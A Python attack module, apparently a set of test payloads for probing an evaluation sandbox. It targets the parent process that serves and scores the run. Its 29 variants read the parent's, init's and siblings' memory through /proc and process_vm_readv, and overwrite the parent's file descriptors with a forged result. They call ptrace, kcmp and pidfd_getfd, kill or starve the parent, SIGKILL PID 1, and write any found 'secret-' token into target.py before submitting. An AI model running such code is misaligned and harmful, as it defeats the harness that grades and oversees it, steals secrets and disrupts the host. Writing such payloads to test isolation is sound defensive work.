"""Goes for the process that serves and counts: its memory, its open files, its life."""

import ctypes
import os
import re
import signal
import struct

VARIANTS = [
    "mem",
    "fd",
    "environ",
    "maps",
    "cmdline",
    "cwd",
    "root",
    "stack",
    "task_mem",
    "ptrace",
    "vm_read",
    "vm_write",
    "pidfd_getfd",
    "kill",
    "stop",
    "term",
    "hup",
    "usr1",
    "alarm",
    "nice",
    "affinity",
    "oom",
    "limits",
    "init_mem",
    "init_kill",
    "siblings",
    "kcmp",
    "coredump",
    "clear_refs",
]


def attack(desk, variant):
    parent = os.getppid()
    libc = ctypes.CDLL(None, use_errno=True)
    paths = {"mem": f"/proc/{parent}/mem", "task_mem": f"/proc/{parent}/task/{parent}/mem", "init_mem": "/proc/1/mem"}
    if variant in paths:
        for mode in ("rb", "r+b"):
            with open(paths[variant], mode, buffering=0) as file:
                file.seek(0x400000)
                give(desk, file.read(1 << 20))
    elif variant == "fd":
        for name in os.listdir(f"/proc/{parent}/fd"):
            with open(f"/proc/{parent}/fd/{name}", "r+b", buffering=0) as file:
                file.write(b'{"id": "0", "files": {"target.py": "left"}}\n')
    elif variant in ("environ", "maps", "cmdline", "cwd", "root", "stack"):
        path = f"/proc/{parent}/{variant}"
        give(desk, os.readlink(path).encode() if variant in ("cwd", "root") else open(path, "rb").read())
    elif variant in ("ptrace", "kcmp", "pidfd_getfd"):
        number = {"ptrace": 101, "kcmp": 312, "pidfd_getfd": 438}[variant]
        libc.syscall(number, 16, parent, 0, 0, 0)
        libc.syscall(number, os.pidfd_open(parent), 1, 0)
    elif variant in ("vm_read", "vm_write"):
        buffer = ctypes.create_string_buffer(4096)
        local = struct.pack("QQ", ctypes.addressof(buffer), 4096)
        libc.syscall(310 if variant == "vm_read" else 311, parent, local, 1, struct.pack("QQ", 0x400000, 4096), 1, 0)
        give(desk, buffer.raw)
    else:
        rough(desk, parent, variant)


def rough(desk, parent, variant):
    if variant in ("kill", "stop", "term", "hup", "usr1", "alarm"):
        number = {"usr1": signal.SIGUSR1, "alarm": signal.SIGALRM}.get(variant) or getattr(
            signal, f"SIG{variant.upper()}"
        )
        os.kill(parent, number)
    elif variant == "nice":
        os.setpriority(os.PRIO_PROCESS, parent, 19)
    elif variant == "affinity":
        os.sched_setaffinity(parent, {0})
    elif variant == "oom":
        open(f"/proc/{parent}/oom_score_adj", "w").write("1000")
    elif variant == "limits":
        import resource

        resource.prlimit(parent, resource.RLIMIT_NOFILE, (4, 4))
    elif variant == "init_kill":
        os.kill(1, signal.SIGKILL)
    elif variant == "siblings":
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) != os.getpid():
                try:
                    give(desk, open(f"/proc/{name}/mem", "rb", buffering=0).read(4096))
                except OSError:
                    continue
    elif variant == "coredump":
        open(f"/proc/{parent}/coredump_filter", "w").write("0xff")
        os.kill(parent, signal.SIGQUIT)
    elif variant == "clear_refs":
        open(f"/proc/{parent}/clear_refs", "w").write("1")


def give(desk, data):
    found = re.search(rb"secret-[0-9a-f]{16}", data)
    if found:
        open("target.py", "w").write(f"def secret():\n    return {found[0].decode()!r}\n")
        desk.tool("submit", {})
